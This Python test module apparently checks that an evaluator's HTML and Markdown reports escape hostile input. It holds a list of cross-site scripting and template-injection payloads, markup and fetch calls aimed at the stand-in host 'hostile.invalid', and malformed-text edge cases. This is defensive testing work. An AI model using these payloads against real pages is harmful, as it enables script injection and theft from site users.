"""What strangers may send: payloads for pages, and results that hold one of them in every field."""

from __future__ import annotations

from evaluator.domain import (
    Answer,
    Contribution,
    Coverage,
    Evidence,
    Flag,
    FlagKind,
    KeyPoint,
    ModelAnswer,
    PointResult,
    Question,
    RedFlag,
    Result,
    Review,
    Signature,
    Stance,
    Unscored,
    UnscoredReason,
)
from evaluator.report import render_candidate_html, render_index_html, render_index_markdown, render_markdown
from evaluator.report.comparison import render_comparison_html, render_comparison_markdown
from evaluator.report.wording import Audience

FIRE = "window.fired=1"

PAYLOADS = (
    f"<script>{FIRE}</script>",
    f"</script><script>{FIRE}</script>",
    f"<img src=x onerror={FIRE}>",
    f'"><img src=x onerror="{FIRE}">',
    f"'><svg/onload={FIRE}>",
    f'" autofocus onfocus="{FIRE}" x="',
    f"' onmouseover='{FIRE}' style='position:fixed;inset:0' x='",
    f"` onclick=`{FIRE}` x=`",
    f"<svg><script>{FIRE}</script></svg>",
    f"<svg><animate onbegin={FIRE} attributeName=x dur=1s>",
    f'<math><mtext></p><style><img src=x onerror="{FIRE}"></style></mtext></math>',
    f"<details open ontoggle={FIRE}><summary>x</summary></details>",
    f"<body onload={FIRE}>",
    f"<iframe srcdoc=\"<script>parent.fired=1</script>\"></iframe><iframe src='javascript:parent.{FIRE[7:]}'></iframe>",
    '<object data="https://hostile.invalid/o"></object><embed src="https://hostile.invalid/e">',
    '<link rel="stylesheet" href="https://hostile.invalid/s.css"><base href="https://hostile.invalid/">',
    '<meta http-equiv="refresh" content="0;url=https://hostile.invalid/m">',
    '<form action="https://hostile.invalid/f"><input name=x autofocus><button>Send</button></form>',
    "</style><style>body{background:url(https://hostile.invalid/c)}</style>",
    "</title></textarea></noscript></template><h1>taken</h1>",
    f"<!--><script>{FIRE}</script>-->",
    f"<![CDATA[<script>{FIRE}</script>]]>",
    f"<a href=\"javascript:{FIRE}\">open</a>",
    f"javascript:{FIRE}//",
    f"data:text/html,<script>opener.{FIRE[7:]}</script>",
    "//hostile.invalid/u",
    "https://hostile.invalid/a?b=c&d=<e>",
    f"[open](javascript:{FIRE}) ![x](https://hostile.invalid/i.png) <https://hostile.invalid/l>",
    "[ref]: https://hostile.invalid/r\n\n[ref] # taken\n\n```\n| a | b |\n|---|---|\n",
    "{{ 7 * 191 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# gone #}",
    "${7*191} #{7*191} <%= 7*191 %> {7*191!r} %(message)s %s",
    f"&lt;script&gt;{FIRE}&lt;/script&gt; &#60;img src=x onerror={FIRE}&#62;",
    f"\uff1cscript\uff1e{FIRE}\uff1c/script\uff1e \u003cscript\u003e{FIRE}\u003c/script\u003e",
    f"\x00<scr\x00ipt>{FIRE}</scr\x00ipt>\u202e>\u2028<b>\x1b]0;taken\x07\x1b[31m",
    f"+ADw-script+AD4-{FIRE}+ADw-/script+AD4-",
    f"alert(1);{FIRE};fetch('https://hostile.invalid/j')",
)  # fmt: skip
"""HTML, attributes, URLs, style, Markdown, templates, encodings: each does something where it gets out of its place."""

SCORED = None
TEXTS: dict[str, tuple[str, UnscoredReason | None, set[str]]] = {
    "1 MB of sentences": ("I listen to them. " * 60_000, UnscoredReason.TOO_LONG, set()),
    "1 MB in one word": ("a" * 1_000_000, UnscoredReason.TOO_LONG, set()),
    "100,000 digits": ("7" * 100_000, UnscoredReason.TOO_LONG, set()),
    "40,000 digits": ("7" * 40_000, UnscoredReason.UNREADABLE, set()),
    "50,000 brackets": ("(" * 50_000, UnscoredReason.TOO_LONG, set()),
    "40,000 brackets": ("([{<" * 10_000, UnscoredReason.UNREADABLE, set()),
    "a word of 40,000 letters": ("I listen " + "a" * 39_991, SCORED, {"off_topic"}),
    "40,000 marks on one letter": ("a" + "\u0301" * 39_999, UnscoredReason.UNREADABLE, set()),
    "40,000 full stops": ("I listen" + "." * 39_992, UnscoredReason.UNREADABLE, set()),
    "40,000 quotation marks": ("I'" * 20_000, SCORED, {"off_topic"}),
    "one sentence 2,000 times": ("I listen to people. " * 2000, SCORED, {"padding"}),
    "nothing": ("", UnscoredReason.EMPTY, set()),
    "white space": (" \t\n\u3000\u2028", UnscoredReason.EMPTY, set()),
    "nothing that can be seen": ("\u200b\u2060\ufeff\u00ad", UnscoredReason.UNREADABLE, set()),
    "NUL characters": ("\x00I\x00 \x00l\x00i\x00s\x00t\x00e\x00n", UnscoredReason.UNREADABLE, set()),
    "one NUL": ("My voice stays low\x00 and my breathing slow.", SCORED, {"hidden_characters"}),
    "direction marks": ("My voice stays low \u202eand my breathing\u202c slow.", SCORED, {"hidden_characters"}),
    "zero width": ("My vo\u200bice stays low and my bre\u200dathing slow.", SCORED, {"hidden_characters"}),
    "tags": ("My voice stays low.\U000e0041\U000e0042 My breathing slow.", SCORED, {"hidden_characters"}),
    "homoglyphs": ("My v\u043eice st\u0430ys l\u043ew and my br\u0435athing slow.", SCORED, {"mixed_script"}),
    "full width": ("\uff2d\uff59 voice stays low and my breathing slow.", SCORED, set()),
    "the wrong encoding": ("My voice stays l\ufffdw and my breathing slow.", UnscoredReason.UNREADABLE, set()),
    "another language": ("Escucho al cliente con paciencia y le pido disculpas por todo.", UnscoredReason.NOT_ENGLISH, set()),
    "pictures": ("My voice stays low \U0001f469\u200d\u2695\ufe0f and my breathing slow.", SCORED, set()),
    "half a pair": ("My voice stays low \ud83d and my breathing slow.", SCORED, {"hidden_characters"}),
}  # fmt: skip
"""Name to a text, why it cannot be scored or None where it is, and ids of flags that it gets at least."""

AUDIENCES: tuple[Audience, ...] = ("candidate", "recruiter")
HARMLESS = "plain words"
EXTRA = "extra column"


def poisoned(text: str) -> list[Result]:
    """Return results of two candidates, scored and unscored, that hold ``text`` in every field that is text."""
    evidence = Evidence(0, len(text), text, 0.9, Stance.AFFIRMS, 0.9)
    against = Evidence(0, len(text), text, 0.9, Stance.DENIES, 0.9)
    statuses = (Coverage.COVERED, Coverage.PARTLY, Coverage.MISSED, Coverage.CONTRADICTED)
    ids = [f"{text}{number}" for number in range(len(statuses))]
    question = Question(
        text,
        text,
        tuple(KeyPoint(id, text, 1.0, (text,), (text,), (text, f"field: {text}"), text, text) for id in ids),
        (RedFlag(text, text, "critical", (text,), (text,), (text,), text, text),),
        (ModelAnswer(text, (text,)),),
        dict.fromkeys((1, 3, 5), text),
    )
    points = tuple(
        PointResult(id, text, 1.0, status, 0.5, (evidence, against), (text, f"field: {text}"), text, text)
        for id, status in zip(ids, statuses, strict=True)
    )
    flags = tuple(Flag(kind, text, text, (evidence,)) for kind in FlagKind)
    signature = Signature(text, text, text, text, text)
    reviews = (Review(3, text, text, "2026-03-31"),)
    parts = (Contribution(text, text, 40.0), Contribution(f"{text}+", text, -10.0))
    # The name of a column is a choice of the file's, too.
    answer = Answer(text, text, text, 2, "", {EXTRA: text, text: text})
    scored = Result(answer, question, 30.0, 2, None, True, flags, points, parts, signature, (1, 3), reviews)
    other = Answer(f"{text} b", text, f"{text} {text}", 3, "", {EXTRA: text})
    better = Result(other, question, 80.0, 4, None, False, (), points, parts, signature, (4, 5), ())
    lost = Answer(f"{text} b", text, text, 4, text, {EXTRA: text})
    unscored = Unscored(UnscoredReason.UNKNOWN_QUESTION, text)
    return [scored, better, Result(lost, None, None, None, unscored, True, (), (), (), signature)]


def rendered(results: list[Result]) -> dict[str, str]:
    """Return every page that is made of results, by a name with its ending."""
    name = results[0].answer.candidate_id
    links = {result.answer.candidate_id: f"{result.answer.candidate_id}.html" for result in results}
    pages = {}
    for audience in AUDIENCES:
        pages[f"{audience}.html"] = render_candidate_html(
            results, audience=audience, with_model_answers=True, title_id=name
        )
        pages[f"{audience}.md"] = render_markdown(results, audience=audience, with_model_answers=True, title_id=name)
    pages["index.html"] = render_index_html(results, links=links, show_names=EXTRA)
    pages["index.md"] = render_index_markdown(results, links=links, show_names=EXTRA)
    pages["compare.html"] = render_comparison_html(results[:2], show_names=EXTRA)
    pages["compare.md"] = render_comparison_markdown(results[:2], show_names=EXTRA)
    return pages
